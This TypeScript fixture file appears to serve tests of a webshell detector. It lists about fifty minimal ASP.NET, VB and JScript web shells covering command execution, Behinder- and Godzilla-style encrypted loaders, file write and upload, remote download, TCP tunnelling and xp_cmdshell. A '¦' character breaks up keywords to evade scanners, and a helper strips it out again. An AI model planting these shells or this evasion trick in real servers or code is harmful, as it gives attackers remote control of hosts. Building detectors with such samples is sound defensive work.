/** A name, a page with `¦` in it, and what the file is called. */
export type Variant = readonly [name: string, text: string, file: string];

/**
 * Pages of the smallest form that show one way from a request to a call each, made for the tests. `¦` stands between
 * letters so that no scanner takes this file for what it describes; {@link plainVariant} takes it out.
 */
export const variants: readonly Variant[] = [
  [
    'behinder',
    '<%@ Page Language="C#" %><%@Import Namespace="System.Re¦flection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Re¦quest.BinaryRead(Re¦quest.ContentLength);As¦sembly.Lo¦ad(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
    'p.aspx',
  ],
  [
    'godzilla',
    '<%@ Page Language="C#" %><%try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; string md5 = "x"; byte[] data = System.Convert.FromBase64String(Context.Re¦quest[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Re¦flection.As¦sembly)typeof(System.Re¦flection.As¦sembly).GetMethod("Lo¦ad", new System.Type[] { typeof(byte[]) }).In¦voke(null, new object[] { data }); } else { object o = ((System.Re¦flection.As¦sembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch (System.Exception) { }%>',
    'p.aspx',
  ],
  [
    'psi object init',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat="server">void Page_Lo¦ad(object s, EventArgs e){ var psi = new Pr¦ocessStartInfo { FileName = "cm¦d.exe", Arguments = "/c " + Re¦quest["c"], UseSh¦ellEx¦ecute=false }; var p = Pr¦ocess.Start(psi); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'psi ctor',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat="server">string Exec(string arg){ Pr¦ocessStartInfo psi = new Pr¦ocessStartInfo(); psi.FileName = "cm¦d.exe"; psi.Arguments = "/c "+arg; Pr¦ocess p = Pr¦ocess.Start(psi); return p.StandardOutput.ReadToEnd(); } void cm¦dExe_Click(object sender, System.EventArgs e){ Response.Write(Se¦rver.HtmlEncode(Exec(txtArg.Text))); }</sc¦ript><form id="cm¦d" method="post" ru¦nat="server"><asp:TextBox id="txtArg" ru¦nat="server"></asp:TextBox><asp:Button id="testing" ru¦nat="server" OnClick="cm¦dExe_Click"></asp:Button></form>',
    'p.aspx',
  ],
  [
    'using alias',
    '<%@ Page Language="C#" %><%@ Import Namespace="P=System.Diagnostics.Pr¦ocess" %><% P.Start("cm¦d", Re¦quest["x"]); %>',
    'p.aspx',
  ],
  [
    'cs using alias',
    '<%@ WebHandler Language="C#" Class="H"%> using P = System.Diagnostics.Pr¦ocess; public class H : System.Web.IHttpHandler { public void Pr¦ocessRe¦quest(System.Web.HttpContext c){ P.Start("cm¦d.exe", c.Re¦quest.Params["x"]); } public bool IsReusable { get {return false;} } }',
    'h.ashx',
  ],
  [
    'dynamic invoke',
    '<%@ Page Language="C#" %><% Type t = Type.GetType("System.Diagnostics.Pro"+"cess"); t.GetMethod("St"+"art", new Type[]{typeof(string),typeof(string)}).In¦voke(null, new object[]{"cm¦d", Re¦quest["x"]}); %>',
    'p.aspx',
  ],
  [
    'foreach',
    '<%@ Page Language="C#" %><% foreach(string k in Re¦quest.Form.AllKeys){ Pr¦ocess.Start("cm¦d", Re¦quest.Form[k]); } %>',
    'p.aspx',
  ],
  [
    'stream reader',
    '<%@ Page Language="C#" %><% var r = new StreamReader(Re¦quest.InputStream); string b = r.ReadToEnd(); Pr¦ocess.Start("cm¦d", b); %>',
    'p.aspx',
  ],
  [
    'buffer read',
    '<%@ Page Language="C#" %><% byte[] b = new byte[Re¦quest.InputStream.Length]; Re¦quest.InputStream.Read(b,0,b.Length); string s = Encoding.UTF8.GetString(b); Pr¦ocess.Start("cm¦d", s); %>',
    'p.aspx',
  ],
  [
    'ctx current',
    '<%@ Page Language="C#" %><% string s = HttpContext.Current.Re¦quest.Headers["X"]; System.Diagnostics.Pr¦ocess.Start("cm¦d", s); %>',
    'p.aspx',
  ],
  [
    'wmi',
    '<%@ Page Language="C#" %><% var m = new ManagementClass("Win32_Pr¦ocess"); m.In¦vokeMethod("Create", new object[]{ Re¦quest["c"], null, null, 0}); %>',
    'p.aspx',
  ],
  [
    'wsh vb',
    '<%@ Page Language="VB" %><% Dim s = CreateObject("WScript.Sh¦ell") : Dim e = s.Exec("cm¦d /c " & Re¦quest("c")) : Response.Write(e.StdOut.ReadAll) %>',
    'p.aspx',
  ],
  ['vb shell', '<%@ Page Language="VB" %><% Sh¦ell("cm¦d /c " & Re¦quest.Form("c"), 0) %>', 'p.aspx'],
  [
    'vb interaction',
    '<%@ Page Language="VB" %><% Microsoft.VisualBasic.Interaction.Sh¦ell(Re¦quest("c")) %>',
    'p.aspx',
  ],
  [
    'vb nolang',
    '<%@ Page %><sc¦ript ru¦nat="server">\nSub RunCmd(sender As Object, e As EventArgs)\n Dim myPr¦ocess As New Pr¦ocess()\n Dim myPr¦ocessStartInfo As New Pr¦ocessStartInfo(xpath.text)\n myPr¦ocessStartInfo.UseSh¦ellEx¦ecute = false\n myPr¦ocessStartInfo.Arguments=xcm¦d.text\n myPr¦ocess.StartInfo = myPr¦ocessStartInfo\n myPr¦ocess.Start()\nEnd Sub\n</sc¦ript><form ru¦nat="server"><asp:TextBox id="xpath" ru¦nat="server"/><asp:TextBox id="xcm¦d" ru¦nat="server"/></form>',
    'p.aspx',
  ],
  [
    'jscript concat name',
    '<%@ Page Language="Js¦cript" %><% var a = "ev"+"al"; this[a](Re¦quest["x"],"un¦safe"); %>',
    'p.aspx',
  ],
  [
    'jscript fromCharCode',
    '<%@ Page Language="Js¦cript" %><% ev¦al(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("Um¦VxdWVzdC5JdGVtWyJ4Il0=")))),"un¦safe"); %>',
    'p.aspx',
  ],
  [
    'jscript func',
    '<%@ Page Language="Js¦cript" %><% function f(x){ return ev¦al(x,"un¦safe"); } f(Re¦quest.Item("p")); %>',
    'p.aspx',
  ],
  [
    'jscript switch',
    '<%@ Page Language="Js¦cript" %><% var P = Re¦quest["P"]; if(P.length>0){ ev¦al(P,\'uns\'+\'afe\'); } %>',
    'p.aspx',
  ],
  ['jscript new Function', '<%@ Page Language="Js¦cript" %><% new Function(Re¦quest["x"])(); %>', 'p.aspx'],
  [
    'jscript unicode whole',
    '<%@ Page Language="Js¦cript" %><% \\u0065\\u0076\\u0061\\u006c(Re¦quest.\\u0049tem["x"],"un¦safe") %>',
    'p.aspx',
  ],
  [
    'jscript @cc',
    '<%@ Page Language="Js¦cript" %><sc¦ript language="JS¦cript" ru¦nat="server">function Page_Lo¦ad(){/**/ev¦al/**/(/**/Re¦quest/**/[/**/"x"/**/]/**/,/**/"un¦safe"/**/)}</sc¦ript>',
    'p.aspx',
  ],
  [
    'html comment between',
    '<sc¦ript language="JS¦cript" ru¦nat="server"> function Page_Lo¦ad(){<!-- x -->\n ev¦al(Re¦quest["x"],"un¦safe"); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'write anywhere',
    '<%@ Page Language="C#" %><% System.IO.File.Wr¦iteAllText(Se¦rver.MapPath(Re¦quest["n"]), Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'write fixed aspx',
    '<%@ Page Language="C#" %><% using(StreamWriter w = new StreamWriter(Se¦rver.MapPath("a.aspx"))) { w.Write(Re¦quest["c"]); } %>',
    'p.aspx',
  ],
  [
    'write base64',
    '<%@ Page Language="C#" %><% File.Wr¦iteAllBytes(Re¦quest["f"], Convert.FromBase64String(Re¦quest["d"])); %>',
    'p.aspx',
  ],
  [
    'saveas',
    '<%@ Page Language="C#" %><% HttpPostedFile f = Re¦quest.Files[0]; f.Sa¦veAs(Re¦quest["p"]); %>',
    'p.aspx',
  ],
  [
    'saveas map',
    '<%@ Page Language="C#" %><% if (Re¦quest.Files.Count != 0) { Re¦quest.Files[0].Sa¦veAs(Se¦rver.MapPath(Re¦quest["f"])); } %>',
    'p.aspx',
  ],
  [
    'saveas own',
    '<%@ Page Language="C#" %><% Re¦quest.Files[0].Sa¦veAs(Se¦rver.MapPath("./") + Re¦quest.Files[0].FileName); %>',
    'p.aspx',
  ],
  [
    'fileupload ctl',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat="server">protected void b(object s, EventArgs e){ if (u.HasFile) { u.Sa¦veAs(Se¦rver.MapPath("~/") + u.FileName); } }</sc¦ript><form ru¦nat="server"><asp:FileUpload ID="u" ru¦nat="server"/><asp:Button OnClick="b" ru¦nat="server"/></form>',
    'p.aspx',
  ],
  [
    'download',
    '<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(Re¦quest["u"], Re¦quest["p"]); %>',
    'p.aspx',
  ],
  [
    'xslt',
    '<%@ Page Language="C#" %><% var x = new XslCo¦mpiledTransform(); x.Lo¦ad(new XmlTextReader(new StringReader(Re¦quest["x"])), new XsltSettings(true,true), null); x.Transform(d, null, w); %>',
    'p.aspx',
  ],
  [
    'losformatter',
    '<%@ Page Language="C#" %><% new LosFormatter().De¦serialize(Re¦quest["x"]); %>',
    'p.aspx',
  ],
  ['xaml', '<%@ Page Language="C#" %><% System.Windows.Markup.XamlReader.Parse(Re¦quest["x"]); %>', 'p.aspx'],
  [
    'compile csharp',
    '<%@ Page Language="C#" %><% var p = new CSharpCodeProvider(); var r = p.Co¦mpileAs¦semblyFromSource(new Co¦mpilerParameters(), Re¦quest["c"]); r.Co¦mpiledAs¦sembly.CreateInstance("X"); %>',
    'p.aspx',
  ],
  [
    'compile icc',
    '<%@ Page Language="C#" %><% ICodeCo¦mpiler c = new CSharpCodeProvider().CreateCo¦mpiler(); Co¦mpilerResults r = c.Co¦mpileAs¦semblyFromSource(cp, Re¦quest.Form["src"]); %>',
    'p.aspx',
  ],
  [
    'powershell',
    '<%@ Page Language="C#" %><% Po¦werSh¦ell ps = Po¦werSh¦ell.Create(); ps.AddScript(Re¦quest["c"]); ps.In¦voke(); %>',
    'p.aspx',
  ],
  [
    'runspace',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>string Do(string s){ Ru¦nspace r = Ru¦nspaceFactory.CreateRu¦nspace(); r.Open(); Pipeline p = r.CreatePipeline(s); p.In¦voke(); return ""; } void b(object o, EventArgs e){ Do(t.Text); }</sc¦ript><form ru¦nat=server><asp:TextBox ru¦nat=server id=t /></form>',
    'p.aspx',
  ],
  [
    'tcp tunnel',
    '<%@ Page Language="C#" %><% String cm¦d = Re¦quest.QueryString.Get("cm¦d").ToUpper(); if (cm¦d == "CONNECT") { String target = Re¦quest.QueryString.Get("target"); int port = int.Parse(Re¦quest.QueryString.Get("port")); IPAddress ip = IPAddress.Parse(target); IPEndPoint remoteEP = new IPEndPoint(ip, port); So¦cket sender = new So¦cket(AddressFamily.InterNetwork, So¦cketType.Stream, ProtocolType.Tcp); sender.Connect(remoteEP); Session.Add("socket", sender); } else if (cm¦d=="READ") { So¦cket s = (So¦cket)Session["socket"]; byte[] b = new byte[512]; int c = s.Receive(b); Response.BinaryWrite(b); } %>',
    'p.aspx',
  ],
  [
    'neoreg',
    '<%@ Page Language="C#" %><% string h = Re¦quest.Headers["X-Target"]; TcpClient t = new TcpClient(h.Split(\'|\')[0], int.Parse(h.Split(\'|\')[1])); NetworkStream n = t.GetStream(); n.Write(Re¦quest.BinaryRead(Re¦quest.ContentLength),0,1); byte[] b=new byte[9]; n.Read(b,0,9); %>',
    'p.aspx',
  ],
  [
    'sql',
    '<%@ Page Language="C#" %><% SqlConnection c = new SqlConnection(Re¦quest["cs"]); c.Open(); SqlCommand m = new SqlCommand(Re¦quest["q"], c); m.Ex¦ecuteNonQuery(); %>',
    'p.aspx',
  ],
  [
    'sql xp',
    '<%@ Page Language="C#" %><% SqlCommand m = new SqlCommand("EXEC master..xp¦_cm¦dsh¦ell \'" + Re¦quest["c"] + "\'", c); m.Ex¦ecuteReader(); %>',
    'p.aspx',
  ],
  [
    'dir list',
    '<%@ Page Language="C#" %><% var d = Re¦quest["d"]; foreach (var f in new DirectoryInfo(d).GetFiles()) Response.Write(f.Name); if (Re¦quest["f"]!=null) Response.WriteFile(Re¦quest["f"]); %>',
    'p.aspx',
  ],
  [
    'webmethod',
    '<%@ WebService Language="C#" Class="S" %> using System; public class S : System.Web.Services.WebService { [System.Web.Services.WebMethod] public string Run(string c){ var p = new System.Diagnostics.Pr¦ocess(); p.StartInfo.FileName="cm¦d.exe"; p.StartInfo.Arguments="/c "+c; p.Start(); return p.StandardOutput.ReadToEnd(); } }',
    's.asmx',
  ],
  [
    'svc',
    '<%@ ServiceHost Language="C#" Service="S" %> using System.ServiceModel; [ServiceContract] public class S { [OperationContract] public string Run(string c){ System.Diagnostics.Pr¦ocess.Start("cm¦d", c); return ""; } }',
    's.svc',
  ],
  [
    'global asax',
    '<%@ Application Language="C#" %><sc¦ript ru¦nat="server">void Application_BeginRe¦quest(object s, EventArgs e){ if (Re¦quest["x"] != null) { System.Diagnostics.Pr¦ocess.Start("cm¦d", Re¦quest["x"]); } }</sc¦ript>',
    'global.asax',
  ],
  [
    'cshtml',
    '@{ var c = Re¦quest["c"]; System.Diagnostics.Pr¦ocess.Start("cm¦d.exe", "/c " + c); }',
    'p.cshtml',
  ],
  [
    'codebehind',
    'using System; public partial class P : System.Web.UI.Page { protected void Page_Lo¦ad(object s, EventArgs e){ System.Diagnostics.Pr¦ocess.Start("cm¦d", Re¦quest["x"]); } }',
    'p.aspx.cs',
  ],
  [
    'appcode',
    'using System; public class P { public static string R(){ System.Diagnostics.Pr¦ocess.Start("cm¦d", System.Web.HttpContext.Current.Re¦quest["x"]); return ""; } }',
    'App_Code\\p.cs',
  ],
];

/** The page itself. */
export function plainVariant(text: string): string {
  return text.replaceAll('¦', '');
}
